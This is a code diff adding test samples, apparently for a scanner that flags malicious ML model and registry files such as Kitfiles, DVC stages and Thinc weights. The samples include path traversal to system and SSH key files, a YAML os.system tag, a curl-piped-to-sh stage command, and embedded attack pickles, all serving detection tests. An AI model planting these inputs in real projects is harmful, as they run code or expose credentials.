@@ -11,7 +11,8 @@ import (
 // folderSamples are files of model folders and registries.
 func folderSamples() []Sample {
 	var all []Sample
-	for _, group := range [][]Sample{mlflowSamples(), tritonSamples(), spacySamples(), manifestSamples(), modelfileSamples(), nemoSamples()} {
+	for _, group := range [][]Sample{mlflowSamples(), tritonSamples(), spacySamples(), manifestSamples(), modelfileSamples(), nemoSamples(), kitSamples(),
+		thincSamples()} {
 		all = append(all, group...)
 	}
 	return all
@@ -192,5 +193,31 @@ func nemoSamples() []Sample {
 		archive("transformers4rec", "CVE-2025-23298: the weights are a pickle that runs a command", "target: nemo.core.Model\n", attackPickle()),
 		archive("reference", "CVE-2024-0129: a file of the model is outside of the archive", "target: nemo.core.Model\ntokenizer: nemo:../../etc/passwd\n", honestPickle()),
 		archive("yaml-tag", "a tag of PyYAML in the configuration", "target: nemo.core.Model\nx: !!python/object/apply:os.system ['echo "+Marker+"']\n", honestPickle()),
+	}
+}
+
+// kitSamples are Kitfiles of KitOps and files of DVC.
+func kitSamples() []Sample {
+	file := func(group, name, technique, text string) Sample {
+		return Sample{Name: name, Group: group, Technique: technique, Loader: group, Build: build([]byte(text))}
+	}
+	return []Sample{
+		file("kitfile", "kitfile-model", "a kit whose model is a key of the user", "manifestVersion: 1.0.0\nmodel:\n  name: m\n  path: ~/.ssh/id_rsa\n"),
+		file("kitfile", "kitfile-code", "a kit whose code is unpacked outside of its folder", "manifestVersion: 1.0.0\ncode:\n- path: ../../etc/cron.d\n"),
+		file("dvc", "dvc-output.dvc", "an output outside of the project", "outs:\n- md5: 3f786850e387550fdab836ed7e6dc881\n  size: 2\n  path: ../../.bashrc\n"),
+		file("dvc", "dvc-command", "a command that fetches and runs a script", "stages:\n  train:\n    cmd: curl -s http://127.0.0.1/x | sh\n    outs:\n    - model.pkl\n"),
+	}
+}
+
+// thincSamples are weights of Thinc.
+func thincSamples() []Sample {
+	weights := func(id, technique, params, shims string) Sample {
+		return Sample{Name: "thinc-" + id, Group: "spacy", Technique: technique, Loader: "spacy",
+			Build: build([]byte("\x84\xa5nodes\x90\xa5attrs\x90\xa6params" + params + "\xa5shims" + shims))}
+	}
+	text := func(content []byte) string { return "\xc5" + string([]byte{byte(len(content) >> 8), byte(len(content))}) + string(content) }
+	return []Sample{
+		weights("shim", "a layer of PyTorch that unpickles the attack", "\x90", "\x91\x91"+text(attackPickle())),
+		weights("array", "a pickle in the data of an array", "\x91\x81\xa1W"+text(attackPickle()), "\x90"),
 	}
 }
